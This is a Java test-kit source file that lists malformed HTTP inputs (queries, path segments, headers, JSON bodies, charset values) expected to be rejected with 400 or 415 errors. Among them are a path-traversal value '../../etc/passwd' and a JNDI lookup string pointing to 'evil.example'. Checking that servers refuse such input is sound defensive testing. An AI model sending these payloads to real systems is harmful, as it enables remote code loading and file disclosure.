package dev.portolan.testkit.adapter;

import dev.portolan.Fields;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** What is wrong in a place that an input is taken from: query, path, header, text. */
final class BadPlaces {
  /** The beginning of a character without its end, as long as what is put in its place. */
  static final String THREE_OF_FOUR = "three bytes of a character of four";

  private BadPlaces() {}

  /** Queries for a function that takes {@link Bystanders.Booking}. */
  static List<BadInput> queries() {
    List<BadInput> all = new ArrayList<>();
    for (String query :
        List.of(
            "amount=one",
            "amount=1.5",
            "amount=",
            "amount=%20",
            "amount=0x1",
            "amount=2147483648",
            "amount=1&amount=2",
            "amount=%D9%A1",
            "total=9223372036854775808",
            "total=1L",
            "small=32768",
            "tiny=128",
            "rate=fast",
            "rate=1d",
            "paid=yes",
            "paid=1",
            "paid=TRUE%00",
            "paid",
            "sign=ab",
            "sign=",
            "colour=BLUE",
            "colour=red",
            "colour=0",
            "day=yesterday",
            "day=2026-02-30",
            "since=1700000000",
            "since=2026-01-02",
            "lasts=90",
            "key=1",
            "link=a%20b",
            "price=much",
            "count=1.5",
            "photo=%25%25",
            "numbers=a",
            "numbers=1&numbers=b",
            "numbers=1,2",
            "id=a&id=b")) {
      all.add(BadInput.get("query " + query, "/?" + query, 400));
    }
    return all;
  }

  /** Requests for a function that takes {@link Bystanders.Placed}. */
  static List<BadInput> parts() {
    List<BadInput> all = new ArrayList<>();
    for (String path :
        List.of(
            "/placed/seven/RED",
            "/placed/1.5/RED",
            "/placed/2147483648/RED",
            "/placed/0x1/RED",
            "/placed/%20/RED",
            "/placed/7%20/RED",
            "/placed/+7x/RED",
            "/placed/%D9%A1/RED",
            "/placed/7;a=b/RED",
            "/placed/null/RED",
            "/placed/7/BLUE",
            "/placed/7/red",
            "/placed/7/RED%20",
            "/placed/7/0",
            "/placed/7/RED;a=b")) {
      all.add(part("path of parts " + path, path));
    }
    for (String query :
        List.of(
            "many=a",
            "many=1&many=b",
            "many=1,2",
            "many=",
            "many=1.5",
            "many=2147483648",
            "dry=perhaps",
            "dry=1",
            "dry=",
            "dry=true&dry=false",
            "since=yesterday",
            "since=1700000000",
            "since=2026-01-02T00:00:00",
            "since=2026-01-02T00:00:00Z&since=2026-01-02T00:00:00Z")) {
      all.add(part("query of parts " + query, "/placed/7/RED?" + query));
    }
    for (String depth : List.of("deep", "1.5", "0x1", "2147483648", "1, 2", "\"1\"", "null")) {
      all.add(good("header depth " + depth).withHeader("X-Depth", depth));
    }
    for (String levels : List.of("a", "1, b", "1.5", "1; 2", "\"1\", \"2", "2147483648")) {
      all.add(good("header levels " + levels).withHeader("X-Levels", levels));
    }
    for (String key : List.of("1", "1-1-1-1-1", "no key", "{0123}", "../../etc/passwd")) {
      all.add(good("header key " + key).withHeader("X-Key", key));
    }
    for (String body :
        List.of(
            "",
            " ",
            "{",
            "[]",
            "1",
            "\"a\"",
            "{}",
            "{\"street\":\"a\"}",
            "{\"number\":\"1\"}",
            "{\"number\":1.5}",
            "{\"street\":1,\"number\":1}",
            "{\"number\":1,\"number\":1}",
            "{\"number\":1} x",
            "\ufeff{\"number\":1}")) {
      all.add(put("body of a part " + body, "/placed/7/RED", body));
    }
    return all;
  }

  private static BadInput good(String name) {
    return part(name, "/placed/7/RED");
  }

  private static BadInput part(String name, String target) {
    return put(name, target, "{\"street\":\"a\",\"number\":1}");
  }

  private static BadInput put(String name, String target, String body) {
    Fields headers = Fields.headers("content-type", "application/json");
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    return new BadInput(name, "PUT", target, headers, bytes, 400, "");
  }

  /** Bodies for a function that takes text. */
  static List<BadInput> texts() {
    List<BadInput> all = new ArrayList<>();
    for (String type :
        List.of(
            "text/plain; charset=klingon",
            "text/plain; charset=",
            "text/plain; charset=\"\"",
            "text/plain; charset=utf-8x",
            "text/plain; charset=utf 8",
            "text/plain; charset=../../etc/passwd",
            "text/plain; charset=${jndi:ldap://evil.example/a}",
            "text/plain; charset=" + "u".repeat(1000),
            "text/plain; charset=utf-8, utf-16",
            "text/plain; charset='utf-8'",
            "text/plain;charset=UTF-7-IMAP")) {
      all.add(text("charset " + type, type, "text").withStatus(415));
    }
    for (String bytes : List.of("\u00ff", "\u00e9t\u00e9", "\u00c0\u0080", "\u00ed\u00a0\u0080")) {
      for (String type : List.of("text/plain", "text/plain; charset=utf-8", "application/json")) {
        all.add(text("not UTF-8 as " + type + ": " + bytes.codePoints().sum(), type, bytes));
      }
    }
    all.add(text(THREE_OF_FOUR, "text/plain", "\u00f0\u009f\u0098"));
    all.add(text("beyond ASCII", "text/plain; charset=us-ascii", "\u00c3\u00a9"));
    all.add(text("half of UTF-16", "text/plain; charset=utf-16", "abc"));
    all.add(text("half of UTF-32", "text/plain; charset=utf-32", "abcde"));
    return all;
  }

  private static BadInput text(String name, String type, String body) {
    Fields headers = Fields.headers("content-type", type);
    byte[] bytes = body.getBytes(StandardCharsets.ISO_8859_1);
    return new BadInput(name, "POST", "/", headers, bytes, 400, "");
  }
}
